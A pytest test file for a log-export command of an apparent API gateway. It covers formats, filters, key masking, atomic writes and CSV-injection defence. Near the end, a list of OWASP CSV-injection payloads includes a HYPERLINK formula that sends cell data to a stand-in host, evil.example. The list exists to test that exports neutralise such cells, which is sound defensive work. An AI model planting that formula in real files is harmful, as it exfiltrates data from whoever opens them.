"""export_logs and the export service: formats, filters, bodies, file references."""

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection

from logs import export
from logs.models import BinaryFile, Request, Response
from logs.outcomes import Outcome
from tests.logs.factory import PNG, exchange_make, file_attach, streamed_chat

pytestmark = pytest.mark.django_db
TRICKY = 'line one, with "quotes"\nline two;\ttab, =SUM(A1)'


def _export(tmp_path, *args) -> str:
    out = tmp_path / "out"
    call_command("export_logs", "--output", str(out), *args)
    return out.read_bytes().decode("utf-8")  # as written: CR inside a CSV cell stays CR


@pytest.fixture
def log():
    """Three exchanges: a chat with an image file, a streamed chat, a 429 on another model."""
    chat = exchange_make(when=datetime(2025, 5, 1, 12, tzinfo=timezone.utc),
                         resp_body={"choices": [{"message": {"content": TRICKY}}]}, tokens=(5, 7))
    img = file_attach(chat, PNG, "image/png", ".png")
    stream = streamed_chat(when=datetime(2025, 5, 2, 12, tzinfo=timezone.utc))
    limited = exchange_make(when=datetime(2025, 5, 3, 12, tzinfo=timezone.utc), status=429, model="gpt-4o",
                            endpoint="/v1/responses")
    return {"chat": chat, "img": img, "stream": stream, "limited": limited}


def test_jsonl_round_trip(tmp_path, log):
    lines = _export(tmp_path, "--format", "jsonl").splitlines()
    records = [json.loads(x) for x in lines]
    assert [r["request"]["id"] for r in records] == [log[k].pk.hex for k in ("chat", "stream", "limited")]
    chat = records[0]
    assert json.loads(chat["response"]["body"])["choices"][0]["message"]["content"] == TRICKY
    assert json.loads(chat["request"]["body"])["messages"][0]["content"] == "hello there"
    assert chat["response"]["input_tokens"] == 5 and chat["response"]["status_code"] == 200
    assert chat["files"] == [{"id": log["img"].pk.hex, "role": "response_image", "file_path": log["img"].file.name,
                              "content_type": "image/png", "size": len(PNG), "sha256": "", "field_name": "",
                              "filename": "", "response_id": chat["response"]["id"], "request_id": log["chat"].pk.hex,
                              "created_at": "2025-05-01T12:00:00+00:00"}]
    assert ["Authorization", "Bearer sk-…9f2c"] in chat["request"]["headers"]
    assert records[1]["response"]["stream_result"]["result"]["choices"][0]["finish_reason"] == "tool_calls"


def test_json_is_one_array(tmp_path, log):
    data = json.loads(_export(tmp_path, "--format", "json"))
    assert isinstance(data, list) and len(data) == 3
    assert json.loads(_export(tmp_path, "--format", "json", "--since", "2026-01-01")) == []


def test_csv_parses_with_bodies_intact(tmp_path, log):
    text = _export(tmp_path, "--format", "csv")
    assert text.startswith("\ufeff")  # spreadsheets read it as UTF-8
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == 3
    assert json.loads(rows[0]["response_body"])["choices"][0]["message"]["content"] == TRICKY
    assert rows[0]["request_id"] == log["chat"].pk.hex and rows[0]["status_code"] == "200"
    assert [f["file_path"] for f in json.loads(rows[0]["files"])] == [log["img"].file.name]
    assert json.loads(rows[0]["request_headers"])[0] == ["Authorization", "Bearer sk-…9f2c"]


@pytest.mark.parametrize("args,expected", [
    (["--since", "2025-05-02"], ["stream", "limited"]),
    (["--until", "2025-05-02"], ["chat"]),
    (["--since", "2025-05-01T13:00:00Z", "--until", "2025-05-03T00:00:00+00:00"], ["stream"]),
    (["--endpoint", "/responses"], ["limited"]),
    (["--status", "4xx"], ["limited"]),
    (["--status", "200"], ["chat", "stream"]),
    (["--model", "gpt-4o"], ["limited"]),
    (["--provider", "openai"], ["chat", "stream", "limited"]),
    (["--provider", "OpenAI"], ["chat", "stream", "limited"]),  # names are lowercase: matched so
    (["--endpoint", "/RESPONSES"], ["limited"]),  # case ignored on every database (SQLite's LIKE ignores it)
])
def test_filters(tmp_path, log, args, expected):
    lines = _export(tmp_path, *args).splitlines()
    assert [json.loads(x)["request"]["id"] for x in lines] == [log[k].pk.hex for k in expected]


def test_gateway_key_and_provider_key_filters(tmp_path):
    """An auditor exports what one key did: by the gateway key's name or its logged label, by none (-),
    or by a provider key's fingerprint; a key whose name starts the same is not taken along."""
    day = datetime(2025, 5, 1, tzinfo=timezone.utc)
    ci = exchange_make(when=day.replace(hour=1), gateway_key="ci (fp 0123456789ab)", key_fp="aaaaaaaaaaaa")
    ci_bot = exchange_make(when=day.replace(hour=2), gateway_key="ci-bot (fp ba9876543210)", key_fp="aaaaaaaaaaaa")
    bare = exchange_make(when=day.replace(hour=3), key_fp="bbbbbbbbbbbb")
    for args, expected in [(["--gateway-key", "ci"], [ci]), (["--gateway-key", "ci (fp 0123456789ab)"], [ci]),
                           (["--gateway-key", "ci-bot"], [ci_bot]), (["--gateway-key", "-"], [bare]),
                           (["--gateway-key", "ci", "--key", "bbbbbbbbbbbb"], []),
                           (["--key", "aaaaaaaaaaaa"], [ci, ci_bot]),
                           (["--key", "BBBBBBBBBBBB", "--format", "csv"], [bare])]:
        text = _export(tmp_path, *args)
        if "csv" in args:
            ids = [row["request_id"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""))]
        else:
            ids = [json.loads(x)["request"]["id"] for x in text.splitlines()]
        assert ids == [r.pk.hex for r in expected], args


@pytest.mark.parametrize("args,error", [
    (["--gateway-key", "cii"], "no exchange in the log presented a gateway key named 'cii'"),
    (["--provider", "opnai"], r"no exchange in the log is from provider 'opnai' \(providers in the log: openai\)"),
    (["--model", "gpt-4"], "no exchange in the log names model 'gpt-4'"),
    (["--key", "cccccccccccc"], "no exchange in the log used the provider key with fingerprint 'cccccccccccc'"),
    (["--key", "sk-proj-abc"], "12 hex digits, not 'sk-proj-abc'"),
    (["--gateway-key", ""], "the gateway key filter is empty"),  # `--gateway-key "$KEY"`, KEY unset: was everything
    (["--provider", " "], "the provider filter is empty"),
    (["--model", ""], "the model filter is empty"),
    (["--since", "2025-05-03", "--until", "2025-05-01"], "the range is empty: since 2025-05-03"),
])
def test_a_filter_that_selects_nothing_in_the_whole_log_is_an_error(tmp_path, args, error):
    """A mistyped key, provider or model exported nothing and exited 0: the operator read "there were none"."""
    exchange_make(when=datetime(2025, 5, 1, 1, tzinfo=timezone.utc), gateway_key="ci (fp 0123456789ab)",
                  key_fp="aaaaaaaaaaaa", model="gpt-4o")
    with pytest.raises(CommandError, match=error):
        _export(tmp_path, *args)
    assert not (tmp_path / "out").exists()  # nothing half-written either


def test_no_bodies(tmp_path, log):
    rec = json.loads(_export(tmp_path, "--no-bodies").splitlines()[0])
    assert "body" not in rec["request"] and "body" not in rec["response"]
    assert rec["response"]["duration_ms"] == 120.5 and rec["files"]


def test_status_outcomes_and_pending(tmp_path):
    gw = exchange_make(status=502, outcome=Outcome.UPSTREAM_ERROR)
    open_ = exchange_make(response=False)
    assert [json.loads(x)["request"]["id"] for x in _export(tmp_path, "--status", "gateway_error").splitlines()] \
        == [gw.pk.hex]
    pending = [json.loads(x) for x in _export(tmp_path, "--status", "pending").splitlines()]
    assert [p["request"]["id"] for p in pending] == [open_.pk.hex] and pending[0]["response"] is None


def test_stdout_and_bad_input(capsys, log):
    call_command("export_logs", "--format", "jsonl", "--model", "gpt-4o")
    out = capsys.readouterr()
    assert json.loads(out.out)["request"]["id"] == log["limited"].pk.hex
    assert out.err.strip().endswith("exported 1 exchange")
    with pytest.raises(CommandError, match="unknown status"):
        call_command("export_logs", "--status", "teapot")
    with pytest.raises(CommandError, match="not an ISO date"):
        call_command("export_logs", "--since", "yesterday")
    for option, moment in (("--until", "0001-01-01T00:00:00+14:00"), ("--since", "9999-12-31T23:59:59-05:00")):
        with pytest.raises(CommandError, match="outside the dates the log can hold"):  # an OverflowError's traceback
            call_command("export_logs", option, moment)
    call_command("export_logs", "--since", "2020-01-01T02:00:00+02:00", "--until", "9999-12-31")  # in UTC: fine
    with pytest.raises(CommandError, match="unknown status ''"):  # was no filter: everything exported
        call_command("export_logs", "--status", "")
    with pytest.raises(CommandError, match="cannot write /nonexistent/dir/x.jsonl: No such file"):  # a traceback before
        call_command("export_logs", "-o", "/nonexistent/dir/x.jsonl")


def test_an_export_that_fails_half_way_leaves_the_previous_export_and_no_partial_file(tmp_path, log, monkeypatch):
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "log.jsonl"
    call_command("export_logs", "--output", str(target))
    target.chmod(0o640)
    before = target.read_bytes()
    real, calls = export.exchange_record, []

    def second_fails(*args, **kwargs):  # the database goes away after one row
        calls.append(1)
        if len(calls) == 2:
            raise DatabaseError("disk I/O error")
        return real(*args, **kwargs)

    monkeypatch.setattr(export, "exchange_record", second_fails)
    with pytest.raises(DatabaseError):
        call_command("export_logs", "--output", str(target), "--model", "gpt-4o-mini")
    assert target.read_bytes() == before  # was truncated at the start, then held one row
    assert [p.name for p in folder.iterdir()] == ["log.jsonl"]  # nothing half-written left beside it
    monkeypatch.undo()
    call_command("export_logs", "--output", str(target), "--model", "gpt-4o-mini")  # replaced once complete...
    assert len(target.read_text().splitlines()) == 2 and target.stat().st_mode & 0o777 == 0o640  # ...mode kept
    assert [p.name for p in folder.iterdir()] == ["log.jsonl"]


@pytest.mark.parametrize("where", ["JOURNAL_DIR", "SPOOL_DIR", "FILE_STORAGE_PATH"])
def test_an_export_into_the_gateways_own_folders_is_refused(tmp_path, log, settings, where):
    # Into the journal folder, log.jsonl was taken for a dead process's journal at the next start: every line
    # skipped as unreadable, then the file deleted.
    folder = tmp_path / where.lower()
    folder.mkdir()
    setattr(settings, where, folder)
    with pytest.raises(CommandError, match=r"log.jsonl is in the gateway's \w+( store)? folder: write the export"):
        call_command("export_logs", "--output", str(folder / "log.jsonl"))
    assert list(folder.iterdir()) == []


def test_unmasked_header_in_an_old_row_is_masked_in_export(tmp_path):
    exchange_make(headers=[["Authorization", "Bearer sk-proj-abcdefghijklmnop1234"]])
    text = _export(tmp_path)
    assert "sk-proj-abcdefghijklmnop1234" not in text and "…1234" in text


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_a_query_parameter_listed_after_the_row_was_written_is_masked_in_export(tmp_path, settings, fmt):
    # Logged before the operator listed "tenant_code": the row holds it in clear; the export must not.
    req = exchange_make(endpoint="/v1/models")
    Request.objects.filter(pk=req.pk).update(query_string="limit=5&tenant_code=s3cr3t-signature-7788&key=AIza…wxyz")
    Response.objects.filter(request_id=req.pk).update(forwarded={  # as a policy step sent it upstream
        "method": "GET", "path": "/v1/models", "query": "limit=6&tenant_code=f0rw4rded-signature-5566", "headers": []})
    settings.LOG_REDACT_QUERY_PARAMS = ["tenant_code"]
    text = _export(tmp_path, "--format", fmt)
    assert "limit=5" in text and "limit=6" in text and "/v1/models" in text  # the rows were read
    assert "s3cr3t-signature-7788" not in text and "tenant_code=…7788" in text
    assert "f0rw4rded-signature" not in text and "tenant_code=…5566" in text
    assert "key=AIza…wxyz" in text  # a value masked when written stays as it was


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_forwarded_request_headers_are_masked_again_and_its_body_obeys_no_bodies(tmp_path, fmt):
    """responses.forwarded holds the request as a step sent it upstream: its headers are masked on the way
    out as the request's own are (the admin's page does), and --no-bodies leaves its body out."""
    forwarded = {"method": "POST", "path": "/v1/chat/completions", "query": "", "model": "gpt-4o-mini",
                 "headers": [["Authorization", "Bearer sk-proj-forwardedsecret9876"], ["X-Team", "blue"]],
                 "body": '{"messages": [{"content": "the patient\'s diagnosis"}]}', "body_size": 48}
    exchange_make(forwarded=forwarded)
    text = _export(tmp_path, "--format", fmt)
    assert "sk-proj-forwardedsecret9876" not in text and "…9876" in text and "blue" in text
    assert "diagnosis" in text  # positive control: the body is exported without --no-bodies
    lean = _export(tmp_path, "--format", fmt, "--no-bodies")
    assert "diagnosis" not in lean and "sk-proj-forwardedsecret9876" not in lean
    assert "/v1/chat/completions" in lean and "blue" in lean  # the rest of it stays


def test_key_fingerprint_gateway_key_and_usage_exported(tmp_path):
    from decimal import Decimal

    label = "team-a (fp 0123456789ab)"
    exchange_make(key_fp="1a2b3c4d5e6f", gateway_key=label, tokens=(100, 20), cached_tokens=64, reasoning_tokens=8,
                  cost_usd=Decimal("0.0004"), headers=[["x-gateway-key", label], ["accept", "*/*"]])
    rec = json.loads(_export(tmp_path, "--format", "jsonl"))
    assert rec["request"]["key_fingerprint"] == "1a2b3c4d5e6f"
    assert rec["request"]["gateway_key"] == label
    assert ["x-gateway-key", label] in rec["request"]["headers"]  # the label, as the exchange page shows it
    assert (rec["response"]["cached_tokens"], rec["response"]["reasoning_tokens"], rec["response"]["cost_usd"]) == (
        64, 8, "0.00040000")
    row = next(csv.DictReader(io.StringIO(_export(tmp_path, "--format", "csv").lstrip("\ufeff"), newline="")))
    assert (row["key_fingerprint"], row["gateway_key"], row["total_tokens"]) == (
        "1a2b3c4d5e6f", "team-a (fp 0123456789ab)", "120")


def _columns(model) -> set[str]:
    """The table's columns, as the model declares them (a new field shows up here by itself)."""
    return {f.column for f in model._meta.concrete_fields}


def _assert_every_column(record: dict) -> None:
    """A JSON export record holds every column of the three tables, with the values of the full exchange."""
    assert set(record["request"]) == _columns(Request)
    assert set(record["response"]) == _columns(Response)
    assert [set(f) for f in record["files"]] == [_columns(BinaryFile)]
    assert (record["response"]["ttft_ms"], record["response"]["usage_injected"]) == (33.5, True)
    assert record["request"]["instance"] == "worker-7"
    assert record["response"]["request_id"] == record["files"][0]["request_id"] == record["request"]["id"]


def _assert_every_csv_column(text: str) -> None:
    """A CSV export has a column for every request and response column, and every file column in `files`."""
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    header = set(rows[0])
    for column in _columns(Request):
        assert column in header or f"request_{column}" in header, column
    for column in _columns(Response):
        assert column in header or f"response_{column}" in header, column
    files = json.loads(rows[0]["files"])
    assert [set(f) for f in files] == [_columns(BinaryFile)]
    assert (rows[0]["ttft_ms"], rows[0]["usage_injected"], rows[0]["instance"]) == ("33.5", "True", "worker-7")


@pytest.fixture
def full():
    """One exchange with every column set: usage injected, TTFT, a worker instance and a file."""
    chat = exchange_make(tokens=(5, 7), ttft_ms=33.5, usage_injected=True)
    Request.objects.filter(pk=chat.pk).update(instance="worker-7")
    file_attach(chat, PNG, "image/png", ".png", filename="cat.png")
    return chat


def test_command_exports_carry_every_column(tmp_path, full):
    _assert_every_column(json.loads(_export(tmp_path, "--format", "jsonl")))
    _assert_every_column(json.loads(_export(tmp_path, "--format", "json"))[0])
    _assert_every_csv_column(_export(tmp_path, "--format", "csv"))


def test_admin_export_actions_carry_every_column(admin_client, full):
    def action(name: str) -> str:
        r = admin_client.post("/admin/logs/request/", {"action": name, "_selected_action": [full.pk]})
        assert r.status_code == 200
        return b"".join(r.streaming_content).decode("utf-8")

    _assert_every_column(json.loads(action("export_jsonl")))
    _assert_every_csv_column(action("export_csv"))


# OWASP's CSV injection list: a cell starting with any of these is run as a formula by spreadsheets.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_that_spreadsheets_would_run_read_back_as_quoted_text(tmp_path, admin_client, formula):
    req = exchange_make(body=formula, resp_body=formula, model=formula, endpoint=formula, status=400,
                        error_message=formula, headers=[["X-Note", formula]])
    exported = {"export_logs": _export(tmp_path, "--format", "csv")}
    r = admin_client.post("/admin/logs/request/", {"action": "export_csv", "_selected_action": [req.pk]})
    exported["admin action"] = b"".join(r.streaming_content).decode("utf-8")
    for path, text in exported.items():
        row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        for column in ("request_body", "response_body", "request_model", "response_model", "endpoint",
                       "error_message"):
            assert row[column] == "'" + formula, (path, column)
        assert json.loads(row["request_headers"]) == [["X-Note", formula]]  # JSON text: starts with [
        assert (row["status_code"], row["request_body_size"]) == ("400", str(len(formula)))  # numbers stay numbers
    rec = json.loads(_export(tmp_path, "--format", "jsonl"))
    assert rec["request"]["body"] == rec["response"]["body"] == formula  # only CSV cells are touched


@pytest.mark.parametrize("fmt", ["jsonl", "json", "csv"])
def test_a_row_that_kept_a_lone_surrogate_does_not_stop_the_export(tmp_path, fmt):
    # SQLite keeps a JSON column's "\ud800" as sent: written as it is, it stopped the export at that row.
    # (PostgreSQL's jsonb refuses one: such a row cannot be there.)
    if connection.vendor != "sqlite":
        pytest.skip("only SQLite keeps a lone surrogate in a JSON column")
    exchange_make(metadata={"k\ud800": "v\udc00"}, stream_result={"events": 1, "result": {"text": "u\udfff"}})
    exchange_make(metadata={"after": "it"})
    text = _export(tmp_path, "--format", fmt)
    assert "k\ufffd" in text and "v\ufffd" in text and "u\ufffd" in text and "after" in text


def test_small_and_zero_costs_are_exported_as_plain_decimals(tmp_path):
    # Python writes a Decimal under a millionth in scientific notation: a cache hit's free answer read "0E-8" and a
    # $0.00000012 embedding "1.2E-7" in every format, where the docs promise a decimal string.
    from decimal import Decimal

    exchange_make(when=datetime(2025, 5, 1, 12, tzinfo=timezone.utc), tokens=(6, 0), cost_usd=Decimal("0.00000012"))
    exchange_make(when=datetime(2025, 5, 1, 13, tzinfo=timezone.utc), tokens=(6, 0), cost_usd=Decimal(0),
                  cache_hit=True, cost_saved_usd=Decimal("0.00000012"))
    records = [json.loads(x) for x in _export(tmp_path, "--format", "jsonl").splitlines()]
    assert [(r["response"]["cost_usd"], r["response"]["cost_saved_usd"]) for r in records] == [
        ("0.00000012", None), ("0.00000000", "0.00000012")]
    rows = list(csv.DictReader(io.StringIO(_export(tmp_path, "--format", "csv").lstrip("\ufeff"), newline="")))
    assert [(r["cost_usd"], r["cost_saved_usd"]) for r in rows] == [("0.00000012", ""), ("0.00000000", "0.00000012")]
